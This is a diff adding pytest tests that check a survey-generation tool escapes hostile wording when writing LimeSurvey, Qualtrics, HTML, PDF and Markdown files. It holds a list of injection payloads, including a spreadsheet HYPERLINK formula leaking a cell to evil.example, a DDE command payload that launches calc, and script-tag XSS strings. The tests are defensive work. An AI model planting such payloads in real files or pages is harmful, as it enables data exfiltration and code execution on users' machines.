@@ -12,6 +12,8 @@ what a respondent and a consultant need.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 import subprocess
@@ -558,3 +560,216 @@ def test_a_frequency_usage_question_and_a_factor_on_two_scales(cli, tmp_path):
         "warning: own.yaml:32:5: factor 'performance_expectancy' has only 2 items: with fewer"
         " than 3, its reliability (Cronbach's alpha) is poorly estimated (add items)",
     ]
+
+
+# -- hostile wording (issue 24: no injection in the files we write) -----------------------
+
+#: Wording a codebook may hold that the program opening our files would obey: spreadsheet
+#: formulas, Qualtrics' own tags, HTML, the tools' expressions and piped text, line breaks.
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
+    "+SUM(1;2)",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "[[Question:TE:SingleLine]]",
+    "[[Block]]\n[[PageBreak]]\n[[Question:Text]]",
+    "<img src=x onerror=alert(1)>",
+    "<script>alert('x')</script>",
+    "Eerste regel\n\tna een tab\r\nen een regel: {TOKEN:EMAIL} ${e://Field/email}",
+    "\uff1d1+1 R&D &amp; co",
+    "| kolom | <b>vet</b> [[[Choice:1]]]",
+)
+#: What a spreadsheet reads as the start of a formula (OWASP), written out here.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+def one_line(text: str) -> str:
+    return " ".join(text.split())
+
+
+def hostile_codebook(folder):
+    """The care group's codebook with hostile wording in front of every statement and in
+    the usage question, the segment question, an answer option, a label and the title:
+    its path, the codebook, and each text as a respondent must see it."""
+    import yaml
+
+    book = yaml.safe_load(ZORG.read_text(encoding="utf-8"))
+    items = [item for factor in book["factors"] for item in factor["items"]]
+    assert len(items) == len(HOSTILE)
+    for hostile, item in zip(HOSTILE, items, strict=True):
+        item["text"] = {lang: f"{hostile} {text}" for lang, text in item["text"].items()}
+    book["usage"]["text"] = {k: f"<b>{v}</b> [[ID:x]]" for k, v in book["usage"]["text"].items()}
+    segment = book["segments"][0]
+    segment["text"] = {k: f"={v} {{TOKEN:EMAIL}}" for k, v in segment["text"].items()}
+    office = segment["options"][2]
+    office["nl"], office["en"] = "-Op kantoor <i>", "-In an office <i>"
+    book["factors"][0]["label"] = {"nl": "=Nut | <b>", "en": "=Use | <b>"}
+    book["questionnaire"]["title"] = {
+        k: f"<script>alert(1)</script>\n{v}" for k, v in book["questionnaire"]["title"].items()
+    }
+    path = folder / "hostile.yaml"
+    path.write_text(yaml.safe_dump(book, allow_unicode=True, sort_keys=False), encoding="utf-8")
+    codebook = load_codebook(path)
+    shown = {
+        lang: {
+            "title": one_line(book["questionnaire"]["title"][lang]),
+            "usage": one_line(book["usage"]["text"][lang]),
+            "segment": one_line(segment["text"][lang]),
+            "office": office[lang],
+            "statements": [one_line(item["text"][lang]) for item in items],
+        }
+        for lang in ("nl", "en")
+    }
+    return path, codebook, shown
+
+
+def assert_no_formula(cells) -> None:
+    for cell in cells:
+        assert not cell.startswith(FORMULA_STARTS) or re.fullmatch(r"-?\d+", cell), repr(cell)
+
+
+def test_hostile_wording_reads_as_text_in_limesurvey(cli, tmp_path):
+    import html
+
+    path, _, shown = hostile_codebook(tmp_path)
+    data = written(cli, "--codebook", path, "--format", "limesurvey", "--lang", "nl,en")
+    survey = I.parse_limesurvey(data)  # the importer's structure, LimeSurvey's rules
+    plain = I.parse_limesurvey(written(cli, "--codebook", ZORG, "--format", "limesurvey"))
+    text = data[3:].decode("utf-8")
+    records = list(csv.reader(io.StringIO(text), delimiter="\t", strict=True))
+    assert_no_formula(cell for record in records for cell in record)
+    # no markup but our own paragraphs, no ExpressionScript, no line within a cell
+    assert {tag for r in records for c in r for tag in re.findall(r"<(\w+)", c)} == {"p"}
+    assert "{" not in text and len(records) == text.count("\n")
+    for lang in ("nl", "en"):
+        questions = survey.questions(lang)
+        # exactly the questions of the same codebook without the hostile wording
+        assert [(q.type, q.code, [c for c, _ in q.subquestions], [c for c, _ in q.answers])
+                for q in questions] == [
+            (q.type, q.code, [c for c, _ in q.subquestions], [c for c, _ in q.answers])
+            for q in plain.questions("en")
+        ]  # fmt: skip
+        # each text shows, rendered as LimeSurvey renders HTML, as the codebook words it
+        expected = shown[lang]
+        title = survey.language_settings[lang]["surveyls_title"]
+        assert html.unescape(title) == expected["title"]
+        usage, segment, *grids = questions
+        assert html.unescape(usage.text) == expected["usage"]
+        assert html.unescape(segment.text) == expected["segment"]
+        assert html.unescape(segment.answers[2][1]) == expected["office"]
+        statements = [html.unescape(t) for g in grids for _, t in g.subquestions]
+        assert statements == expected["statements"]
+
+
+def test_hostile_wording_reads_as_text_in_qualtrics(cli, tmp_path):
+    import html
+
+    path, _, shown = hostile_codebook(tmp_path)
+    plain = I.parse_qualtrics(written(cli, "--codebook", ZORG, "--format", "qualtrics"))
+    for lang in ("nl", "en"):
+        data = written(cli, "--codebook", path, "--format", "qualtrics", "--lang", lang)
+        text = data.decode("utf-8")
+        # a tag only on a line of its own; no text starts a tag, a formula or piped text
+        questions = I.parse_qualtrics(data)
+        lines = text.split("\n")
+        assert all(line.startswith("[[") == bool(I._TAG.match(line)) for line in lines)
+        assert sum("[[" in line for line in lines) == sum(bool(I._TAG.match(x)) for x in lines)
+        assert_no_formula(lines)
+        assert "${" not in text
+        assert {tag for tag in re.findall(r"<(\w+)", text)} == {"br"}  # the intro's own
+        # exactly the questions of the same codebook without the hostile wording
+        assert [(q.type, q.id, [n for n, _ in q.choices], [n for n, _ in q.answers])
+                for q in questions] == [
+            (q.type, q.id, [n for n, _ in q.choices], [n for n, _ in q.answers]) for q in plain
+        ]  # fmt: skip
+        expected = shown[lang]
+        usage, segment, *grids = questions[1:-1]
+        assert html.unescape(usage.text) == expected["usage"]
+        assert html.unescape(segment.text) == expected["segment"]
+        assert html.unescape(segment.choices[2][1]) == expected["office"]
+        statements = [html.unescape(t) for g in grids for _, t in g.choices]
+        assert statements == expected["statements"]
+
+
+@pytest.mark.parametrize("tool", ["limesurvey", "qualtrics"])
+def test_hostile_wording_still_reads_back_with_no_mapping(cli, tmp_path, tool):
+    """The escaped wording still names the export's columns: the answers read back."""
+    path, book, _ = hostile_codebook(tmp_path)
+    group = X.people(codebook=book)
+    labels = tuple(o.label("en") for o in book.segment("afdeling").options)
+    if tool == "limesurvey":
+        data = written(cli, "--codebook", path, "--format", tool, "--lang", "nl,en")
+        survey = I.parse_limesurvey(data)
+        export = I.limesurvey_export(
+            tmp_path / "export.csv", survey, book, group, lang="en", full=True
+        )
+    else:
+        questions = I.parse_qualtrics(written(cli, "--codebook", path, "--format", tool))
+        export = I.qualtrics_export(tmp_path / "export.csv", questions, book, group, numeric=False)
+    read = load_survey(export, book, ["afdeling"])
+    reference = X.tidy(
+        tmp_path / "reference.csv", group, codebook=book, segment="afdeling", departments=labels
+    )
+    assert_same_survey(read, load_survey(reference, book, ["afdeling"]), segment="afdeling")
+    assert "11 of 11 items matched" in str(read.source.summary())
+
+
+def test_hostile_wording_stays_literal_on_paper(cli, tmp_path):
+    path, _, shown = hostile_codebook(tmp_path)
+    data = written(cli, "--codebook", path, "--format", "html", "--lang", "nl,en")
+
+    class Tags(HTMLParser):
+        def __init__(self):
+            super().__init__()
+            self.tags = set()
+
+        def handle_starttag(self, tag, attrs):
+            self.tags.add(tag)
+
+    tags = Tags()
+    tags.feed(data.decode("utf-8"))
+    assert not tags.tags & {"img", "script", "b", "i"}
+    text = page(data).text
+    for lang in ("nl", "en"):
+        expected = shown[lang]
+        for wording in (expected["usage"], expected["segment"], *expected["statements"]):
+            assert any(wording in line for line in text), wording
+    result = cli("questionnaire", "--codebook", path, "--lang", "en", "-o", "form.pdf")
+    assert result.exit_code == 0, result.stderr
+    flat = " ".join(
+        subprocess.run(
+            ["pdftotext", tmp_path / "form.pdf", "-"], capture_output=True, text=True, check=True
+        ).stdout.split()
+    )
+    for hostile in ("<img src=x onerror=alert(1)>", "<script>alert('x')</script>", "[[Block]]"):
+        assert hostile in flat
+
+
+def test_hostile_wording_stays_literal_in_markdown_and_the_key(cli, tmp_path):
+    path, _, shown = hostile_codebook(tmp_path)
+    result = cli(
+        "questionnaire", "--codebook", path, "--lang", "nl,en", "-o", "f.md", "--key", "k.md"
+    )
+    assert result.exit_code == 0, result.stderr
+    form = (tmp_path / "f.md").read_text(encoding="utf-8")
+    key = (tmp_path / "k.md").read_text(encoding="utf-8")
+    for text in (form, key):
+        # a tag or an entity a Markdown renderer would obey is escaped; no text breaks a line
+        assert not re.search(r"<(img|script|b|i)\b", text)
+        assert "&lt;img src=x onerror=alert(1)>" in text
+        assert "&lt;script>alert('x')&lt;/script>" in text
+        assert "R&D &amp;amp; co" in text
+    for version, lang in zip(form.split("\n---\n"), ("nl", "en"), strict=True):
+        headings = re.findall(r"^(#+) ", version, re.M)
+        assert headings == ["#"] + ["##"] * 6  # the title, 2 questions, 4 grids
+        # each statement is one line that reads, its escapes undone, as the codebook's
+        lines = dict(re.findall(r"^(\d+)\. (.*)$", version, re.M))
+        for number, statement in enumerate(shown[lang]["statements"], start=3):
+            line = lines[str(number)].replace("\\|", "|").replace("&lt;", "<")
+            assert line.replace("&amp;", "&") == statement
+    # each row of the key's statements table is one line of five cells
+    rows = [line for line in key.splitlines() if re.match(r"^\| \d+ \| \w+ \|", line)]
+    assert len(rows) == 2 + 11
+    assert all(len(re.findall(r"(?<!\\)\|", row)) == (5 if n < 2 else 6) for n, row in
+               enumerate(rows))  # fmt: skip
+    assert "| 3 | nut1 | =Nut \\| &lt;b> |" in key
